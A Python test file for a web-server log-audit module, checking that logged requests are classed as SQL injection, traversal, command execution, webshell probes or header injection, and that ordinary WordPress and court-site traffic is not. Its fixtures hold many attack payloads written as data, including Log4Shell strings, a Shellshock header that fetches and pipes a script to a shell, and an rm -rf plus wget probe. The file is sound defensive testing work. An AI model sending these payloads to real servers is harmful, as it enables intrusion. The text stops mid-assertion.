"""library/website_log_audit.py and module_utils/sop_weblog*.py: attack categories, counts,
reading only what is new across rotation (rename, gzip, copytruncate, truncation), the
parallel path equal to the serial one, bounded counters, and the module's failures."""

from __future__ import annotations

import bz2
import datetime
import errno
import grp
import gzip
import json
import lzma
import os
import pickle
import pwd
import re
import shutil
import subprocess
import time
import tracemalloc
import zlib
from pathlib import Path
from urllib.parse import quote

import pytest
import yaml
from conftest import within
from loader import LOCAL_PLAYBOOK, ROOT, load, run_module, warning_lines

weblog = load("sop_weblog")
patterns = load("sop_weblog_patterns")
mod = load("website_log_audit")

BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/119.0 Safari/537.36"
GOOGLE = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"


def line(ip: str, when: str, request: str, status: int = 200, agent: str = BROWSER,
         referer: str = "-") -> str:
    return f'{ip} - - [{when} +0700] "{request}" {status} 512 "{referer}" "{agent}"\n'


NORMAL = [
    line("36.1.1.1", "30/Nov/2026:08:00:00", "GET / HTTP/1.1"),
    line("36.1.1.1", "30/Nov/2026:08:00:01", "GET /wp-content/themes/t/style.css?ver=6.1 HTTP/1.1",
         304),
    line("36.1.1.2", "30/Nov/2026:08:01:00", "GET /berita/sidang-1/ HTTP/1.1"),
    line("36.1.1.2", "30/Nov/2026:08:01:05", "GET /?s=jadwal+sidang HTTP/1.1"),
    line("66.249.66.1", "30/Nov/2026:08:02:00", "GET /berita/ HTTP/1.1", agent=GOOGLE),
    line("36.1.1.3", "30/Nov/2026:08:03:00", "GET /tidak-ada HTTP/1.1", 404),
    line("36.1.1.3", "30/Nov/2026:08:03:30", "GET /wp-admin/admin-ajax.php HTTP/1.1", 500),
]
# One probe per category: (category, line)
PROBES = [
    ("sqli", line("45.1.1.1", "30/Nov/2026:09:00:00",
                  "GET /?id=1%27%20UNION%20SELECT%20user_pass%20FROM%20wp_users-- HTTP/1.1", 403)),
    ("sqli", line("45.1.1.1", "30/Nov/2026:09:00:09", "GET /?p=1+AND+SLEEP(5) HTTP/1.1")),
    ("lfi", line("45.1.1.2", "30/Nov/2026:09:01:00",
                 "GET /index.php?page=..%252f..%252f..%252fetc%252fpasswd HTTP/1.1", 404)),
    ("rce", line("45.1.1.3", "30/Nov/2026:09:02:00", "GET /cgi.php?cmd=id;uname%20-a HTTP/1.1",
                 404)),
    ("php", line("45.1.1.4", "30/Nov/2026:09:03:00",
                 "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", 404)),
    ("xss", line("45.1.1.5", "30/Nov/2026:09:04:00",
                 "GET /?s=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1")),
    ("java", line("45.1.1.6", "30/Nov/2026:09:05:00", "GET /?x=${jndi:ldap://x/a} HTTP/1.1", 404)),
    ("webshell", line("45.1.1.7", "30/Nov/2026:09:06:00",
                      "GET /wp-content/uploads/2026/11/alfa.php HTTP/1.1", 200)),
    ("restricted_file", line("45.1.1.8", "30/Nov/2026:09:07:00", "GET /.env HTTP/1.1", 404)),
    ("admin_probe", line("45.1.1.9", "30/Nov/2026:09:08:00", "GET /phpmyadmin/ HTTP/1.1", 404)),
    ("scanner", line("45.1.1.10", "30/Nov/2026:09:09:00", "GET / HTTP/1.1",
                     agent="sqlmap/1.7.11#stable (https://sqlmap.org)")),
    ("protocol", line("45.1.1.11", "30/Nov/2026:09:10:00", "PROPFIND / HTTP/1.1", 405)),
    ("protocol", '45.1.1.11 - - [30/Nov/2026:09:10:01 +0700] "\\x16\\x03\\x01" 400 150 "-" "-"\n'),
]
BRUTE = [line("103.9.9.9", f"30/Nov/2026:10:{i // 60:02d}:{i % 60:02d}",
              "POST /wp-login.php HTTP/1.1") for i in range(25)]
LOG = "".join(NORMAL + [p for _c, p in PROBES] + BRUTE) + "not a log line\n"


def audit(path: Path, state_dir: Path, **params):
    base = {"paths": [str(path)], "state_dir": str(state_dir), "top": 10, "samples": 3,
            "bruteforce_threshold": 20, "top_limit": 5000, "workers": 1, "timeout": 600,
            "trusted_proxies": [], "web_server": "nginx", "proxy_share_percent": 90,
            "proxy_min_requests": 200, "cms": "unknown"}
    base.update(params)
    return mod.run(base, check_mode=params.pop("check", False))


@pytest.mark.parametrize(("category", "text"), PROBES[:-3])
def test_each_target_probe_has_its_category(category, text):
    target = text.split('"')[1].split(" ")[1].encode()
    assert category in patterns.target_categories(target)


@pytest.mark.parametrize("target", [
    "/", "/berita/sidang-1/", "/?s=jadwal+sidang", "/wp-content/themes/t/style.css?ver=6.1",
    "/wp-json/wp/v2/posts?per_page=10", "/?p=123", "/feed/", "/page/2/",
    "/wp-content/uploads/2026/11/foto-1.jpg", "/?s=cerai%20gugat",
    "/wp-login.php?redirect_to=%2Fwp-admin%2F", "/berita/?utm_source=facebook&utm_medium=post",
])
def test_normal_targets_are_not_findings(target):
    assert patterns.target_categories(target.encode()) == ()


@pytest.mark.parametrize("target", [
    "/wp-admin/upload.php", "/wp-admin/upload.php?mode=list",
    "/wp-admin/update.php?action=upload-plugin", "/wp-admin/network/update.php",
    "/web/wp-admin/upload.php",
])
def test_wordpress_s_own_admin_pages_are_no_webshell(target):
    """The Media Library, the updater and the database upgrade are WordPress's own pages,
    answered 2xx to the court's administrator: as a webshell probe answered 2xx
    (website_log_alert_categories) they failed the activity every time one was used. A
    shell named like them elsewhere, or another name in wp-admin, is still one."""
    assert "webshell" not in patterns.target_categories(target.encode())
    shell = target.replace("/wp-admin/", "/wp-admin/x/").split("?")[0]
    assert "webshell" in patterns.target_categories(shell.encode())
    assert "webshell" in patterns.target_categories(b"/wp-admin/up.php")


@pytest.mark.parametrize("target", [
    "/wp-admin/includes/update.php", "/wp-admin/includes/upgrade.php", "/wp-admin/upgrade.php",
    "/wp-admin/network/upgrade.php", "/wp-includes/update.php",
    "/wp-includes/Text/Diff/Engine/shell.php", "/pn/wp-includes/update.php",
])
def test_wordpress_core_files_requested_directly_are_no_webshell(target):
    """Scanners request WordPress's core files named like shells (wp-admin/includes/
    update.php, wp-includes/update.php, Text_Diff's shell.php) and they answer 200: a
    webshell probe answered 2xx, and the activity failed on the site's own code, which
    website_integrity watches. The same name elsewhere (the root, the uploads, another
    folder), another name of a shell in those folders, another extension, and a shell's
    query on the core file still are findings."""
    assert "webshell" not in patterns.target_categories(target.encode())
    assert "webshell" not in patterns.target_categories(f"{target}/x".encode())
    assert "rce" in patterns.target_categories(f"{target}?cmd=id".encode())
    folder, name = target.rsplit("/", 1)
    for shell in (f"/{name}", f"/wp-content/uploads/2026/11/{name}", f"{folder}/x/{name}",
                  f"{folder}/up.php", f"{folder}/mini.php", f"{folder}/symlink.php",
                  f"{target}5", target.replace(".php", ".phtml"),
                  "/wp-includes/upgrade.php", "/wp-admin/includes/upload.php"):
        assert "webshell" in patterns.target_categories(shell.encode()), shell


@pytest.mark.parametrize("target", [
    "/wp-admin/network/about.php", "/wp-admin/network/about.php?updated=true",
    "/wp-admin/user/about.php", "/pn/wp-admin/network/about.php",
])
def test_a_multisite_s_network_about_page_is_no_webshell(target):
    """A WordPress multisite's network and user admin have their own about.php, shown to
    the administrator after every update: as a webshell answered 2xx it failed the
    activity, while the single site's wp-admin/about.php passed. An about.php anywhere
    else under wp-admin or wp-includes is still a shell's name."""
    assert "webshell" not in patterns.target_categories(target.encode())
    for shell in ("/wp-admin/network/x/about.php", "/wp-admin/css/about.php",
                  "/wp-includes/network/about.php", "/wp-admin/network/network/about.php",
                  "/wp-admin/network/about.php/x"):
        assert "webshell" in patterns.target_categories(shell.encode()), shell


@pytest.mark.parametrize("target", [
    "/wp-admin/update.php?action=update-selected&plugins=akismet%2Fakismet.php%2C"
    "updraftplus%2Fupdraftplus.php&_wpnonce=0a1b2c3d4e",
    "/wp-admin/update.php?action=upgrade-plugin&plugin=updraftplus%2Fupdraftplus.php",
    "/wp-admin/plugins.php?action=activate&plugin=updraftplus%2Fupdraftplus.php",
])
def test_a_shell_s_name_in_the_query_is_no_webshell(target):
    """WordPress's updater names each plugin's main file in its query (the Updates page
    loads update.php?action=update-selected&plugins=...): UpdraftPlus's updraftplus.php
    read as an 'up...' shell, a webshell probe answered 2xx, and updating the plugins
    failed the activity. A web shell is the file requested; one in the path still is."""
    assert "webshell" not in patterns.target_categories(target.encode())
    assert "webshell" in patterns.target_categories(b"/updraftplus.php?" + target.encode())


@pytest.mark.parametrize("target", [
    "/wp-content/plugins/updraftplus/updraftplus.php",
    "/pn/wp-content/plugins/updraftplus/updraftplus.php",
    "/wp-content/plugins/uploadcare/uploadcare.php",
    "/wp-content/plugins/symbiostock/symbiostock.php",
])
def test_a_plugin_s_main_file_is_no_webshell(target):
    """Scanners ask for a plugin's main file, named as its folder, to learn its version,
    and it answers 200: UpdraftPlus's updraftplus.php read as an 'up...' shell, a webshell
    answered 2xx, and failed the activity. A shell's name in a plugin's folder, a plugin's
    name elsewhere, and the names shells take still are."""
    assert "webshell" not in patterns.target_categories(target.encode())
    name = target.rsplit("/", 1)[1]
    for shell in (f"/wp-content/plugins/akismet/{name}", f"/{name}", f"/wp-content/themes/x/{name}",
                  target.replace(name, "up.php"), target.replace(name, "mini.php"),
                  "/wp-content/plugins/wso/wso.php", "/wp-content/plugins/mini/mini.php",
                  "/up.php", "/x/upload.php", "/mini.php", "/symlink.php", "/alfa.php",
                  "/wso.php", "/c99.php", "/r57.php", "/b374k.php"):
        assert "webshell" in patterns.target_categories(shell.encode()), shell


@pytest.mark.parametrize("target", [
    "/.env%00", "/.env%2500", "/.git%00/config", "/wp-content/backup.sql%00.jpg",
    "/?f=court.sqlite%00",
])
def test_a_restricted_file_ended_by_a_nul_byte_is_one(target):
    """A NUL byte (%00) ends a file's name where PHP's or C's file functions read it:
    /.env%00 asks for .env, and passed as an ordinary request."""
    assert "restricted_file" in patterns.target_categories(target.encode())
    assert patterns.target_categories(b"/.environment%20pengadilan") == ()


@pytest.mark.parametrize(("target", "category", "found"), [
    ("/x/..", "lfi", True), ("/x/..%0a", "lfi", False), ("/?f=/..%0A", "lfi", False),
    ("/.env", "restricted_file", True), ("/.env%0a", "restricted_file", False),
    ("/dump.sql", "restricted_file", True), ("/dump.sql%0a", "restricted_file", False),
    ("/backup.zip", "restricted_file", True), ("/backup.zip%0a", "restricted_file", False),
    ("/wp-admin/network/about.php", "webshell", False),
    ("/wp-admin/network/about.php%0a", "webshell", True),
    # where the pattern reads a newline as a space, it still does
    ("/?id=1--%0a", "sqli", True), ("/?x=;id%0a", "rce", True),
])
def test_a_name_ended_by_an_encoded_newline_is_not_that_name(target, category, found):
    """Python's $ also matches before a final newline, which %0a decodes to: /x/..%0a was
    a traversal, /.env%0a and /backup.zip%0a restricted files, and the multisite's
    network about.php%0a WordPress's own page, none of which it names. A pattern's end is
    the target's end."""
    assert (category in patterns.target_categories(target.encode())) is found


@pytest.mark.parametrize(("target", "restricted"), [
    ("/wp-content/uploads/2026/11/formulir-gugatan.zip", False),
    ("/wp-content/uploads/2026/11/aplikasi.rar?ver=2", False),
    ("/pn/wp-content/uploads/2026/11/berkas.tar.gz", False),
    ("/backup.zip", True), ("/wp-content/uploads/backup.zip", True),
    ("/wp-content/uploads/backwpup-ab12-backups/site.zip", True), ("/?file=www.tar.gz", True),
    ("/wp-content/uploads/2026/11/foto.jpg?x=www.zip", True),
    ("/wp-content/uploads/2026/11/dump.sql", True),
])
def test_an_archive_the_media_library_publishes_is_no_restricted_file(target, restricted):
    """WordPress's Media Library takes zip, rar, 7z and tar files (a court's forms and
    documents) into uploads/YYYY/MM/: every visitor downloading one was a probe for a
    backup archive. An archive elsewhere (a backup plugin's folder, the web root) still
    is, and so is a database dump anywhere."""
    assert ("restricted_file" in patterns.target_categories(target.encode())) is restricted
    with within(20, "reading the target"):
        patterns.target_categories(b"/wp-content/uploads/2026/11/a" * 40000 + b".zip")


@pytest.mark.parametrize(("target", "category"), [
    ("/?id=1--", "sqli"), ("/?x=information_schema.tables", "sqli"),
    ("/x.php?cmd=ls", "rce"), ("/cgi-bin/a?x=/bin/sh", "rce"),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "php"),
    ("/?a=allow_url_include", "php"), ("/wso.php", "webshell"), ("/.git/config", "restricted_file"),
    ("/phpmyadmin/", "admin_probe"), ("/x/../../etc/passwd", "lfi"),
])
def test_probes_written_with_plain_characters(target, category):
    assert category in patterns.target_categories(target.encode())


@pytest.mark.parametrize("target", [
    "/?id=1'/**/OR/**/'1'='1", "/?id=1/**/AnD/**/1=1", "/?id=1%2F%2A%2A%2For%2F%2A%2A%2F1%3D1",
    "/?id=1/*!UNION*//*!ALL*//*!SELECT*//*!NULL*/", "/?id=1'/*!0UNION/*!0ALL/*!0SELECT/*!0NULL#",
    "/?id=1/*!50000UnIoN*/+/*!50000SeLeCt*/+1,2", "/?id=-1+UNION(SELECT+1,2)",
    "/?id=1+union/**/all/**/select+1", "/?id=1+union+distinctrow+select+1",
])
def test_sql_injection_with_comments_for_spaces_is_sqli(target):
    """MySQL reads a comment as a space and runs the words of a versioned comment, and a
    parenthesis may follow UNION: sqlmap's space2comment and versionedkeywords tampers
    ('/**/OR/**/1=1', '/*!UNION*//*!ALL*//*!SELECT*/') and UNION(SELECT passed as
    ordinary requests. A search for words in parentheses is still none."""
    assert "sqli" in patterns.target_categories(target.encode())
    assert patterns.target_categories(b"/?s=european+union+(selection)") == ()


@pytest.mark.parametrize("target", [
    "/?s=%22ketua+pengadilan%22+or+%22wakil%22",
    "/?s=%22ketua+pengadilan%22+OR+%22wakil+ketua%22&post_type=page",
    "/?s='cerai'+and+'gugat'", "/?s=%22putusan%22+or+2024",
])
def test_a_search_for_quoted_words_joined_by_or_is_no_sqli(target):
    """A court search with quoted words and 'or' between them was SQL injection (a quote,
    'or', a quote). Injection compares after the condition ('1'='1, "a"="a, 1=1,
    ') or ('x' like 'x), and still is."""
    assert patterns.target_categories(target.encode()) == ()
    for attack in ("/?id=1' or '1'='1", '/?id=1" OR "a"="a', "/?id=1') or ('a'='a",
                   "/?id=1' or 'x' like 'x", "/?id=1' or 1=1", "/?u=admin'||'1'='1",
                   "/?id=1'))or(('a'<'b"):
        assert "sqli" in patterns.target_categories(attack.encode()), attack
    with within(20, "reading the target"):
        patterns.target_categories(b"/?s=" + b"')or('" * (weblog.MAX_LINE // 6))


@pytest.mark.parametrize("target", [
    "/wp-login.php?redirect_to=http%3A%2F%2F10.0.0.5%2Fwp-admin%2F&reauth=1",
    "/wp-login.php?redirect_to=https://192.168.1.10/wp-admin/post.php?post=7",
    "/pn/wp-login.php?redirect_to=http://172.20.0.3/pn/wp-admin/",
    "/wp-login.php?redirect_to=http://127.0.0.1/wp-admin/",
])
def test_a_login_s_redirect_to_a_private_address_is_no_rfi(target):
    """Staff opening the site by its LAN address are sent to wp-login.php with
    redirect_to= that address: an address in a URL parameter was remote file inclusion.
    A redirect_to a public address, or another parameter naming a private one (an SSRF
    probe), still is."""
    assert patterns.target_categories(target.encode()) == ()
    for attack in ("/wp-login.php?redirect_to=http://45.1.2.3/x.txt",
                   "/wp-login.php?redirect_to=http://172.32.0.3/", "/?page=http://10.0.0.5/x",
                   "/?url=http://169.254.169.254/latest/meta-data/"):
        assert "rfi" in patterns.target_categories(attack.encode()), attack


@pytest.mark.parametrize("target", [
    r"/index.php?s=/index/\x5Cthink\x5Capp/invokefunction&function=call_user_func_array"
    r"&vars[0]=system&vars[1][]=id",
    r"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
    r"&vars[0]=md5&vars[1][]=x",
    "/index.php?s=index/%5Cthink%5Ccontainer/invokefunction&function=call_user_func_array"
    "&vars%5B0%5D=phpinfo&vars%5B1%5D%5B%5D=1",
    r"/index.php?s=index/\x5Cthink\x5CRequest/input&filter=system&data=id",
    "/?s=index/think/app/invokefunction&function=call_user_func",
])
def test_thinkphp_s_routing_run_as_code_is_php_injection(target):
    """ThinkPHP 5's remote code execution (its router reaching \\think\\app's
    invokefunction, which calls call_user_func_array with the query's function),
    which botnets send to any site, passed as an ordinary request (as nginx
    and Apache log its backslashes, and percent-encoded). A search for 'think' is none."""
    assert "php" in patterns.target_categories(target.encode())
    assert patterns.target_categories(b"/?s=think+tank+call+user+function") == ()


@pytest.mark.parametrize("target", [
    "/?id=@@version", "/?id=1%20and%20@@version_compile_os%20like%20%27lin%25%27",
    "/?id=convert(int,@@version)", "/?id=1+procedure+analyse(@@datadir)",
    "/?x=@@global.secure_file_priv",
])
def test_the_sql_server_s_own_variables_asked_for_are_sqli(target):
    """@@version (and @@datadir, @@hostname ...), the first thing an injection asks the
    database, passed as an ordinary request unless a union or select came with it."""
    assert "sqli" in patterns.target_categories(target.encode())
    assert patterns.target_categories(b"/?s=surat+ke+info@@pn.go.id") == ()


@pytest.mark.parametrize("target", [
    "/?x=`id`", "/?host=127.0.0.1%0Aid", "/?ip=1%0auname%20-a", "/?ip=1;%0a%0a%20%0aid",
    "/cgi-bin/;cd${IFS}/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://203.0.113.9/x.sh",
])
def test_a_command_between_backticks_after_a_newline_or_before_ifs_is_rce(target):
    """A command name was known only after ; | ` & and before a space, ; | or the end:
    `id` (a backtick ends it), a command after an encoded newline (%0a, which the shell
    also reads as a separator) and the routers' botnet probes' rm${IFS}-rf passed as
    ordinary requests. A query's own id= or cat= is still none."""
    assert "rce" in patterns.target_categories(target.encode())
    assert patterns.target_categories(b"/?page=1&id=5&cat=2") == ()


@pytest.mark.parametrize(("target", "category"), [
    # nginx's default escaping: a raw '"' as \x22, '\' as \x5C, a tab as \x09
    (r"/?id=1\x22 OR \x22a\x22=\x22a", "sqli"),
    (r"/?id=1\x22\x09or\x09\x221\x22=\x221", "sqli"),
    (r"/?file=c:\x5Cwindows\x5Csystem32\x5Cdrivers\x5Cetc\x5Chosts", "lfi"),
    # Apache's: \" and \\
    (r"/?id=1\" OR \"a\"=\"a", "sqli"),
    (r"/?file=c:\\windows\\system32\\drivers\\etc\\hosts", "lfi"),
])
def test_a_target_is_read_as_the_client_sent_it_not_as_the_log_escapes_it(target, category):
    """nginx logs a quote or a backslash in the request line as \x22 and \x5C, Apache as
    \" and \\: the quote and backslash patterns never saw them, so 1" OR "a"="a passed.
    The escapes are undone once: a client's own backslash before x22 is no quote."""
    assert category in patterns.target_categories(target.encode())
    assert patterns.target_categories(target.replace("\\", "\\x5C").encode()) == ()
    assert patterns.target_categories(target.replace("\\", "\\\\").encode()) == ()


def test_nginx_and_apache_lines_with_an_escaped_quote_are_sql_injection(tmp_path):
    nginx = line("45.1.1.1", "30/Nov/2026:09:00:00", r"GET /?id=1\x22 OR \x22a\x22=\x22a HTTP/1.1")
    apache = line("45.1.1.2", "30/Nov/2026:09:00:01", r'GET /?id=1\" OR \"a\"=\"a HTTP/1.1')
    log = tmp_path / "access.log"
    log.write_text(nginx + apache)
    result = audit(log, tmp_path / "state")
    assert [(f["category"], f["count"], f["samples"]) for f in result["findings"]] == [
        ("sqli", 2, [nginx.rstrip("\n"), apache.rstrip("\n")])]
    assert (result["requests"], result["malformed"]) == (2, 0)


@pytest.mark.parametrize("unit", ["union/**/ ", "union/*", "'/*!1*/", "/wp-admin/", "/.well-known/",
                                  "/wp-includes/", "/wp-content/uploads/", "file=http://a",
                                  "\\x22\\", "%0a"])
def test_a_hostile_target_is_read_in_linear_time(unit):
    """A target as long as the longest line kept (1 MiB), repeating one pattern's
    beginning, took minutes to an hour with patterns that searched again from each
    repeat (an 8 KiB one, what nginx accepts, 52 ms against 7 us for a normal target);
    now each pattern reads it once: a run of encoded newlines, each a command separator
    and a space after the one before, took 2.6 s for 64 KiB. A probe hidden in comments
    still matches."""
    with within(20, "reading the target"):
        patterns.target_categories((unit * (weblog.MAX_LINE // len(unit))).encode())
    assert "sqli" in patterns.target_categories(b"/?id=-1+union/*!50000*/select+1,2")


@pytest.mark.parametrize("rounds", [1, 2, 3, 4])
@pytest.mark.parametrize(("category", "attack"), [
    ("lfi", "/index.php?page=../../../etc/passwd"),
    ("sqli", "/?id=1' union select user_pass from wp_users--"),
    ("xss", "/?s=<script>alert(1)</script>"),
])
def test_an_attack_encoded_up_to_four_times_is_read(category, attack, rounds):
    """A target was URL-decoded twice: ../ encoded three times (%25252e%25252e%25252f)
    was still %2e%2e%2f and slipped past every pattern. It is decoded until nothing is
    left to decode, at most DECODE_ROUNDS (4) times."""
    path, query = attack.split("?", 1)
    name, value = query.split("=", 1)
    for _round in range(rounds):
        value = quote(value, safe="")
    assert category in patterns.target_categories(f"{path}?{name}={value}".encode())


@pytest.mark.parametrize("target", [
    "/..%c0%af..%c0%afetc%c0%afpasswd", "/%c0%ae%c0%ae/%c0%ae%c0%ae/x",
    "/%C0%AE%C0%AE%C0%AF%C0%AE%C0%AE%C0%AFwp-config.php", "/%e0%80%ae%e0%80%ae%e0%80%afx",
    "/?f=..%c1%9c..%c1%9cwindows", "/%25c0%25ae%25c0%25ae/x",
])
def test_an_overlong_utf8_traversal_is_lfi(target):
    """UTF-8's overlong forms of '.', '/' and '\\', which no text has and old servers read
    as those characters, walked out of the folder unseen: ..%c0%af is ../. A visitor's
    own UTF-8 (an accented word) is read as before."""
    assert "lfi" in patterns.target_categories(target.encode())
    assert patterns.decode_target(b"/..%c0%af%e0%80%ae%c1%9c") == "/../.\\"
    assert patterns.decode_target(b"/?s=caf%C3%A9") == "/?s=caf\xe3\xa9"
    with within(20, "reading the target"):
        patterns.target_categories(b"/?s=" + b"\xe0\x80" * (weblog.MAX_LINE // 2))


def test_a_target_is_decoded_at_most_four_times_and_stops_when_nothing_changes():
    """Each round undoes one layer; a '%' that starts no escape stays."""
    assert patterns.decode_target(b"/?p=%25252e%25252e%25252fwp-config.php") == \
        "/?p=../wp-config.php"
    assert patterns.decode_target(b"/?q=%" + b"25" * 3 + b"41") == "/?q=a"
    assert patterns.decode_target(b"/?q=%" + b"25" * 4 + b"41") == "/?q=%41"
    assert patterns.decode_target(b"/?q=100%25%20OFF+now") == "/?q=100% off now"
    assert patterns.decode_target(b"/?q=%%zz%4") == "/?q=%%zz%4"


@pytest.mark.parametrize("target", [
    b"%25" * 66_666, b"%" + b"25" * 99_999, b"%" * 200_000, b"%2e" * 66_666,
    b"%25252e%25252e%25252f" * 9_524])
def test_a_hostile_encoded_target_is_decoded_in_bounded_time(target):
    """A 200,000-character target of escapes that decode into more escapes (%2525...
    loses two characters a round: decoding until nothing changes would take 100,000
    rounds) costs at most DECODE_ROUNDS linear passes (measured: under 0.08 s each)."""
    with within(2, "decoding the target"):
        patterns.target_categories(b"/?a=" + target)


def test_a_target_ending_in_a_comment_mark_and_spaces_is_read_in_linear_time():
    """'1--' then spaces ('+' or %20) and one more character: the end-of-comment pattern
    (quote or digit, '--' or '#', spaces, an optional '-', spaces, the end) tried every
    split of the spaces between its two runs of them: an 8 KiB target took 0.13 s, a
    long line minutes. A comment at the end is still SQL injection."""
    with within(5, "reading the target"):
        patterns.target_categories(b"/?id=1--" + b"+" * (weblog.MAX_LINE // 4) + b"x")
    assert "sqli" in patterns.target_categories(b"/?id=1'--+-+")
    assert "sqli" in patterns.target_categories(b"/?id=1%23")


def test_agent_classes():
    assert patterns.agent_class(GOOGLE.encode()) == ("Googlebot", False, False)
    assert patterns.agent_class(b"Mozilla/5.00 (Nikto/2.5.0)") == (None, True, False)
    assert patterns.agent_class(BROWSER.encode()) == (None, False, False)
    assert patterns.agent_class(b"Googlebot/2.1 ${jndi:ldap://x/a}") == (None, False, True)


# Ordinary user agents (crawler name or None) and referers: no header injection.
ORDINARY_AGENTS = [
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/131.0.0.0 Safari/537.36", None),
    ("Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-A536E) AppleWebKit/537.36 (KHTML, like Gecko) "
     "SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36", None),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0", None),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 "
     "(KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1", None),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
     "like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/442.0.0.38.108;FBBV/549195014;FBDV/iPhone14,5;"
     "FBMD/iPhone;FBSN/iOS;FBSV/17.1.2;FBSS/3;FBID/phone;FBLC/id_ID;FBOP/5;FBRV/0]", None),
    ("Mozilla/5.0 (Linux; Android 12; SM-A125F Build/SP1A.210812.016; wv) AppleWebKit/537.36 "
     "(KHTML, like Gecko) Version/4.0 Chrome/119.0.6045.163 Mobile Safari/537.36 Instagram "
     "309.1.0.41.113 Android (31/12; 320dpi; 720x1471; samsung; SM-A125F; a12; mt6765; in_ID; "
     "541635890)", None),
    ("Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/7.0; SLCC2; .NET CLR "
     "2.0.50727; .NET4.0C; .NET4.0E)", None),
    ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, "
     "like Gecko) Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; "
     "+http://www.google.com/bot.html)", "Googlebot"),
    (GOOGLE, "Googlebot"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
     "+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", "Bingbot"),
    ("WhatsApp/2.23.20.0", None), ("WhatsApp/2.2407.3 A", None),
    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "Facebook"),
    ("TelegramBot (like TwitterBot)", "Twitterbot"), ("curl/8.5.0", None), ("-", None),
]
ORDINARY_REFERERS = [
    "-", "https://www.google.com/", "https://www.google.co.id/",
    "android-app://com.google.android.googlequicksearchbox/",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fpn-bangil.go.id%2Fberita%2F&h=AT3xQ1",
    "https://www.bing.com/search?q=cara+select+data+from+sipp+pn+bangil&form=QBLH",
    "https://pn-bangil.go.id/?s=jum'at+sidang", "https://pn-bangil.go.id/berita/sidang-1/",
]


@pytest.mark.parametrize(("agent", "crawler"), ORDINARY_AGENTS)
def test_an_ordinary_user_agent_carries_no_injection(agent, crawler):
    assert patterns.agent_class(agent.encode()) == (crawler, False, False)


@pytest.mark.parametrize("referer", ORDINARY_REFERERS)
def test_an_ordinary_referer_carries_no_injection(referer):
    assert not patterns.header_injection(referer.encode())


# Injection carried in a header, as nginx logs it (a quote as \x22)
HEADER_ATTACKS = [
    "${jndi:ldap://45.1.1.1:1389/Exploit}", "Mozilla/5.0 ${jndi:dns://x.oast.me/a}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
    "${j${env:x:-n}di:ldap://x/a}", "${${upper:J}NDI:LDAP://x/a}",
    r"() { :; }; /bin/bash -c \x22wget http://45.1.1.1/a.sh -O- | sh\x22",
    "() { ignored; }; echo Content-Type: text/plain ; echo ; /bin/cat /etc/passwd",
    r"<?php echo md5(\x22x\x22); ?>",
    r"}__test|O:21:\x22JDatabaseDriverMysqli\x22:3:{s:2:\x22fc\x22;O:17:\x22SimplePie\x22:3:{",
    "Mozilla/5.0 (x) $(nslookup x.oast.me)",
    "Mozilla/5.0' AND SLEEP(5)-- -", "'XOR(if(now()=sysdate(),sleep(5),0))XOR'",
    "1' OR '1'='1", r"1\x22 or \x221\x22=\x221", "-1 UNION ALL SELECT NULL,NULL-- -",
    "<script>alert(document.cookie)</script>",
]


@pytest.mark.parametrize("attack", HEADER_ATTACKS)
@pytest.mark.parametrize("header", ["agent", "referer"])
def test_injection_in_the_user_agent_or_referer_is_a_finding(tmp_path, attack, header):
    """Log4Shell (also nested to hide its name), Shellshock, PHP and SQL injection and
    script tags come in the User-Agent and Referer, which Log4j logs, a CGI script gets
    and a log viewer shows; only their scanner names were looked for (the agent's)."""
    log = tmp_path / "access.log"
    log.write_text(line("45.1.1.1", "30/Nov/2026:09:00:00", "GET / HTTP/1.1",
                        **{header: attack}))
    found = {f["category"]: f for f in audit(log, tmp_path / "state")["findings"]}
    assert set(found) == {"header_injection"}
    assert (found["header_injection"]["count"], found["header_injection"]["crs"]) == (
        1, "CRS 932/933/941/942/944 header")


def test_an_apache_line_s_escaped_header_and_a_clean_log_of_ordinary_agents(tmp_path):
    """Apache writes the quotes of a serialized object as \\"; a log of ordinary user
    agents and referers, crawlers included, has no finding and counts its crawlers."""
    attack = r'}__test|O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";'
    log = tmp_path / "access.log"
    log.write_text("".join(
        line("36.1.1.1", f"30/Nov/2026:08:00:{i:02d}", "GET /berita/ HTTP/1.1", agent=agent,
             referer=ORDINARY_REFERERS[i % len(ORDINARY_REFERERS)])
        for i, (agent, _c) in enumerate(ORDINARY_AGENTS)))
    result = audit(log, tmp_path / "state")
    assert result["findings"] == []
    assert result["crawlers"] == {"Googlebot": 2, "Bingbot": 1, "Facebook": 1, "Twitterbot": 1}
    apache = tmp_path / "other_vhosts_access.log"
    apache.write_text(line("45.1.1.2", "30/Nov/2026:09:00:00", "GET / HTTP/1.1", agent=attack))
    assert [(f["category"], f["count"]) for f in audit(apache, tmp_path / "state")["findings"]] \
